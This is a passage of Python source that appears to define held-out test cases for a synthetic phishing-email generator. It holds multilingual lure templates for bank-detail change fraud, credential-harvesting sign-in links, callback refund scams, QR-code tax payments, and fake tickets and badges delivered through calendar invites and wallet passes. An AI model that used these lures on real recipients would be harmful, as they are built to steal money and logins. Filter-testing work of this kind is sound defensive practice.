            text=["MESSAGE SÉCURISÉ – Notaires & Associés\n\nVous avez reçu 2 documents confidentiels (acte.pdf, RIB_etude.pdf). Consultation unique :\nhttps://espace-notarial.{token}.web.app/dossier/{code}?m=%B64%\n\nAttention, le RIB de l'étude a changé : merci de ne plus utiliser l'ancien pour le virement du solde.",
                  "Votre messagerie {domain} sera désactivée ce soir. Pour conserver vos messages : https://zimbra-maj-{num}.test/{domain}/ (identifiant + mot de passe actuels). Service informatique, poste {n2}"]),
    heldout(49, "secondo-calendario", lang="it", by="kit-php outlook-imap kit-node", sender="company", attacks=[49, 34], do=[second_calendar, page(["In allegato l'invito alla riunione.\n\nSaluti\n{org}", "Buongiorno, vi giro l'appuntamento.", "Invito riunione"])],
            summary=["Fattura {num} scaduta – PEC bloccata", "Modifica coordinate bancarie {orgcompany}", "Verifica obbligatoria casella"],
            text=["La sua casella PEC è stata bloccata per mancato rinnovo. Paghi {small} entro oggi con carta: https://rinnovo-pec.{token}.pages.dev/p/{code} oppure perderà i messaggi con valore legale.",
                  "Spett.le {company}, a seguito di verifica fiscale il nostro IBAN è cambiato. Il documento ufficiale firmato è su https://doc-fornitori-{num}.test/iban/{code}{num}; vi preghiamo di saldare la fattura {num} ({amount}) solo sul nuovo conto. Per conferma {phone}.",
                  "Gentile {name}, completi la verifica della casella https://verifica-mail{num}.example/?c={hex} prima della scadenza."]),
    heldout(49, "shadow-event", by="kit-python sogo nextcloud", sender="company", attacks=[49, 34, 11], do=[tailored, shadow_event],
            summary=["Zoom: partner briefing (recording inside)", "Client onboarding - KYC upload", "Overdue: loan agreement countersignature"],
            text=["The recording and the transcript of the briefing are ready. Watch: https://zoom-rec.{token}.workers.dev/rec/share/{hex}?pwd={code} – attendees sign in with their company account so that we can count who has seen it.",
                  "KYC refresh\n\nRegulation requires passport, proof of address and a recent bank statement. Upload in the client room before the slot: [client room](https://kyc-room-{num}.example/u?c=%B64%)\n\nCompliance, {orgcompany}",
                  "Your countersignature is missing; the lender withdraws the offer of ${big} after this time. https://loan-sign.{token}.netlify.app/{code}{num}\n{org}, {phone2}"]),
    # 50: nothing but the file
    heldout(50, "meeting-five", by="python-site kit-python kit-node", sender="vps", attacks=[50, 34, 14], do=[home("invitesrv{n2}.test", "mx-outs.invalid", "eventpush.example"), tailored, file_only("meeting_{code}x.ics"), lambda m: setattr(m, "file_name", "meeting_%s.ics" % M.token(m.r, 5, "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnpqrstuvwxyz23456789"))],
            who=["Microsoft Teams", "Meeting Scheduler", "{company} Scheduling"],
            summary=["{company} - Internal audit interview", "Meeting with {colleague}", "Policy attestation {year}"],
            text=["Join on your computer or mobile app\n\nClick here to join the meeting <https://teams-live-{token}.r2.dev/meet/join.html?c=%B64%>\n\nMeeting ID: 268 771 904 {n2}\nPasscode: {code}\n\nDownload Teams | Join on the web\n\nLearn More | Meeting options",
                  "{colleague} has scheduled a call and shared the agenda. Agenda: https://agenda.{token}.pages.dev/v/{hex}#{rcpt}", "Annual attestation, due at the start of this meeting.\n[Policy handbook](https://attest-{num}.test/p/{code}) – secure access, {company} credentials"]),
    heldout(50, "datei-mit-deinem-namen", lang="de", by="m365 outlook-imap roundcube", sender="company", attacks=[50, 11, 34], do=[tailored, file_only("{last}_Termin.ics", "{local}.ics", "Einladung-{last}-{num}.ics", "{domain}_{local}.ics")],
            summary=["AW: Unterlagen Nachtrag", "Zahlungsavis {date}", "Fwd: Nachtrag {num}, Leistungsverzeichnis", "Avis {order}"],
            text=["Guten Tag,\n\nanbei erhalten Sie die Unterlagen zum Nachtrag wie telefonisch besprochen.\n\nUnterlagen ansehen: https://nachtrag-{token}.vercel.app/dok/{num}?k=%B64%\n\nDas Dokument ist geschützt, bitte melden Sie sich mit Ihrer E-Mail-Adresse {rcpt} an.\n\nMit freundlichen Grüßen\n{org}\n\n{orgcompany}\nGeschäftsführer: {org}",
                  "Zahlungsavis über {amount} – Details unter https://avis.{token}.azurewebsites.net/{code}{num}"]),
    heldout(50, "calendar-is-the-mail", by="kit-php kit-python yahoo", sender="freemail", attacks=[50, 39, 28], place="soon", do=[S.set_(tree="calendar", cal_cte="8bit"), only_recipient], who=["Dating Match Anna", "PayPal Invoice", "Bitcoin Payout Dept", "Best Buy Orders"],
            summary=["🔥 Anna (29) sent you 3 private photos", "PP-{num}: {amount} authorised", "Payout #{num} ready — {btc} BTC", "Samsung 65\" QLED shipped, {amount}"],
            text=["hey {local} im anna, saw you are close to me. i dont like typing here, my pics and number are on https://sites.google.com/view/{token}/anna come quick i delete it when the reminder rings 😘",
                  "Merchant: Kestrel Gaming PTE\nAuthorised: {amount}\nRef: PP-{num}\n\nNot recognised? Help line: {phone}\nPress 1 for disputes. The hold is taken off when you talk to the agent.",
                  "your balance is {btc} BTC, log in & withdraw within the hour https://forms.gle/{code}{token} operator waits in chat",
                  "Your TV is on its way to 4418 Ash Court, Tulsa. Wrong address or not your order: eight-three-three, 555, zero one {n2}. Ask for Kevin in refunds."]),
    heldout(50, "alleen-een-bestand", lang="nl", by="kit-node php-site", sender="vps", attacks=[50, 36], do=[home("bericht-{num}.test", "overheid-post.invalid"), code_of("https://mijn-bericht.{token}.web.app/qr?i={code}", "bericht", True), file_only("afspraak.ics", "{local}-{num}.ics", "meeting_{code}.ics")],
            who=["Belastingdienst", "Berichtenbox", "CJIB", "Mijn Berichten"], summary=["Belastingschuld {amount}: laatste betaaldatum", "U heeft 1 bericht in uw Berichtenbox", "Beslaglegging op {date}", "Nieuw bericht voor {name}"],
            text=["Ondanks herhaalde aanmaningen staat er nog {amount} open. Scan de QR-code met uw telefoon en betaal met iDEAL, of ga naar https://aanslag-betalen.{token}.web.app. Na de afspraak in uw agenda komt de deurwaarder.",
                  "Er is een nieuw bericht voor {name}. Scan de code om in te loggen met DigiD. Lukt dat niet: {phone}."]),
    # 51: a wallet pass beside it
    heldout(51, "resale-tickets", by="python-site ruby-site kit-node", sender="junk", attacks=[51, 34], do=[home("fan-resale-{n2}.test", "ticketswap-verified.example"), wallet("https://fanpass-{token}.pages.dev/claim/{code}", "Fan Resale", "Claim the transfer within 30 minutes or the seats are released.")],
            who=["Ticket Transfer", "Fan Resale"], summary=["You've been sent 2 tickets (Floor GA)", "Front row upgrade confirmed 🎤", "Ticket transfer {order} - accept now", "Seat upgrade, order {order}"],
            text=["Good news! Jordan sent you 2 tickets.\n\nSection: Floor GA   Row: -   Doors 18:30\n\nAdd the pass to your wallet, then accept the transfer and settle the facility charge of {small}:\n[Accept tickets](https://fanpass.{token}.web.app/t/{code}{num})\n\nUnaccepted tickets return to the sender.",
                  "Your seats were moved up. Difference of {small} has to be paid by card before doors: https://upgrade-seat-{num}.test/{code}. Barcode in the wallet pass stays grey until then. Help? {phone}"]),
    heldout(51, "vuelo-reembolso", lang="es", by="travel booking", sender="junk", attacks=[51, 39, 34], do=[home("gestion-reservas{n2}.test", "vuelos-reclama.example"), wallet("https://reemb-{token}.web.app/es/{code}", "Aerolínea", "Su vuelo ha sido cancelado. Solicite el reembolso.")],
            who=["Atención al pasajero", "Reservas Vuelo"], summary=["Vuelo cancelado – reserva {code}", "Cambio de horario: tarjeta de embarque nueva", "Compensación UE261: {amount}", "Nuevo embarque {code}"],
            text=["Estimado pasajero:\n\nLamentamos comunicarle que el vuelo de su reserva {code} ha sido cancelado por causas operativas. Tiene derecho a {amount}. Para recibirlo en 24 h indique la tarjeta con la que desea cobrar:\n\nhttps://compensacion-{num}.example/r/{code}\n\nTambién puede llamarnos al {phone} (tenga a mano su banca móvil).\n\nAdjuntamos la tarjeta para Wallet.",
                  "¡Últimas plazas! Su nuevo embarque está en el pase adjunto. Falta abonar {small} de tasa: https://tasa-vuelo.{token}.netlify.app"]),
    heldout(51, "spaarpas-actie", lang="nl", by="php-site kit-php", sender="vps", attacks=[51, 34, 40], do=[home("winactie-{num}.test", "klanten-voordeel.invalid"), wallet("https://spaar-{token}.pages.dev/{code}", "Voordeelpas", "Activeer uw pas en ontvang de waardebon.")],
            who=["Albert Voordeel", "Bol Klantenpanel"], summary=["Waardebon €500 klaargezet voor {first} 🎁", "Uw punten (14.{n2}0) vervallen vandaag", "Afhalen: uw prijs nr. {num}", "Punten verzilveren vóór 00:00"],
            text=["Gefeliciteerd {first}!\n\nU bent één van de 10 klanten van deze week. Open de pas in uw Wallet en beantwoord drie vragen: https://voordeel-pas.{token}.web.app/nl/{code}\n\nU betaalt alleen € 1,95 verzending.",
                  "Let op: uw spaarpunten vervallen om middernacht. Verzilver ze nu voor een Airfryer of AirPods: https://punten-{num}.test/inwisselen. Uitschrijven kan door de afspraak te weigeren."]),
    heldout(51, "conference-badge", by="m365 crm java-site", sender="company", attacks=[51, 11, 38], do=[tailored, wallet("https://badge-{token}.vercel.app/activate?c={code}", "{orgcompany} Summit", "Scan to activate the badge with your work account."), S.set_(tree="mixed-alternative-file")],
            summary=["Your speaker badge - {orgcompany} Summit", "VIP dinner: pass attached", "Delegate pass + hotel block, deadline {date}", "Dinner on the eve of the summit"],
            text=["Dear {first},\n\nWe look forward to welcoming you. Your badge is attached for the wallet of your phone. It has to be activated with your organisation's Microsoft account so that security can print it:\n\n[Activate badge](https://badge.{token}.azurewebsites.net/activate?u=%B64%)\n\nRooms in the official block go at $189; card details by {date} please, https://housing-desk-{num}.test/book/{code}, or by phone {phone}.\n\nWarm regards,\n{org}\nHousing & Registration",
                  "VIP dinner, {street}. Pass attached. Dress code: business. Dietary form (sign in): https://vip-form.{token}.pages.dev/{local}"]),
]
